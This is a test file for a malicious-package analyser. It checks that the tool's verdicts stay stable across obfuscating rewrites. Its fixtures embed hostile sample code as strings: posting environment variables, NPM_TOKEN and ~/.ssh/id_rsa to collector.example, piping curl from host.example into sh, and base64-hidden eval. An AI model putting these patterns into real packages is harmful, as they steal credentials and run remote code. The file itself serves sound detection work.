import assert from 'node:assert/strict';
import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
import { SeededRandom } from '../bench/random.js';
import { packageOf } from '../support/artifacts.js';
import { readCorpus } from './corpus.js';
import { readTree, type PackageTree } from './package-tree.js';
import { bundled, renamed } from './variations/rebuilt.js';
import { splitStrings } from './variations/re-encoded.js';
import { aliasedRequire, reExported } from './variations/moved.js';
import { withoutSink } from './variations/without-sink.js';
import { verdictOf } from './verdict.js';

/** What obfuscators write takes seconds for each package; a gate could miss what changes names, files and ways. */
const REWRITES = [withoutSink, renamed, bundled, splitStrings, reExported, aliasedRequire];

/** In files that can only compute stand parts of what the others do. */
const OWN: readonly (readonly [what: string, files: Readonly<Record<string, string>>])[] = [
  [
    'a name that another file gives',
    {
      'names.js': `exports.where = ['/v1', 'collect'].join('/'); exports.words = (o) => Object.keys(o).map((k) => k + o[k]);`,
      'index.js': `const { where, words } = require('./names');
        require('https').request({ host: 'collector.example', path: where, method: 'POST' }).end(words(process.env).join());`,
    },
  ],
  [
    'a function that is handed what it calls',
    {
      'each.js': `module.exports = (run, list) => { for (const one of list) run(one); };`,
      'index.js': `const cp = require('child_process'); require('./each')((c) => cp.exec(c), ['curl https://host.example/a.sh | sh']);`,
    },
  ],
  [
    'a decoder beside what it decodes',
    {
      'table.js': `module.exports = [99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103, 40, 41].map((n) => n ^ 0);`,
      'decode.js': `module.exports = (list) => list.reduce((text, n) => text + String.fromCharCode(n), '');`,
      'index.js': `new Function(require('./decode')(require('./table')))();`,
    },
  ],
  [
    'a class that is given a client',
    {
      'store.js': `class Store { constructor(client) { this.client = client; } push(data) { return this.client.post('/in', data); } } module.exports = Store;`,
      'index.js': `const Store = require('./store'); const axios = require('axios').create({ baseURL: 'https://collector.example' });
        new Store(axios).push({ token: process.env.NPM_TOKEN });`,
    },
  ],
  [
    'a file that is handed a client, and of which nothing is called',
    {
      'store.js': `let client; exports.use = (one) => { client = one; };
        exports.push = () => client.post('/in', require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa'));`,
      'index.js': `const store = require('./store'); const axios = require('axios').create({ baseURL: 'https://collector.example' });
        store.use(axios); module.exports = store;`,
    },
  ],
  [
    'a variable that is called like a global beside that global',
    {
      'index.js': `function keep(top) { return top; }
        keep({})[1]; top['ev' + 'al'](Buffer.from('${Buffer.from(`require('child_process').exec('curl https://host.example/a.sh | sh')`).toString('base64')}', 'base64').toString());`,
    },
  ],
];

function treeOf(files: Readonly<Record<string, string>>): PackageTree {
  const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', main: 'index.js' }), ...files };
  return new Map(Object.entries(all).map(([file, text]) => [file, Buffer.from(text)]));
}

function verdictOn(tree: PackageTree, gate: boolean): readonly string[] {
  return verdictOf(analysePackage(packageOf(Object.fromEntries(tree)), { gate }));
}

async function holdsFor(tree: PackageTree): Promise<void> {
  assert.deepEqual(verdictOn(tree, true), verdictOn(tree, false), 'as it is');
  const random = new SeededRandom(1);
  for (const rewrite of REWRITES) {
    const written = await rewrite.vary(tree, () => random.next());
    if (written !== undefined) assert.deepEqual(verdictOn(written, true), verdictOn(written, false), rewrite.name);
  }
}

describe('the verdict is the same whether files that can only compute are parsed or not', function () {
  // One of the samples undoes its own obfuscation in some seconds, fourteen times.
  this.timeout(180_000);

  for (const [what, files] of OWN) {
    it(`of ${what}`, async () => {
      assert.notDeepEqual(verdictOn(treeOf(files), true), []);
      await holdsFor(treeOf(files));
    });
  }

  const { attacks = [], takeovers = [], lookAlikes = [] } = readCorpus() ?? {};
  for (const { id, folder } of [...attacks, ...takeovers, ...lookAlikes]) {
    it(`of the sample ${id}`, async () => holdsFor(await readTree(folder)));
  }
});
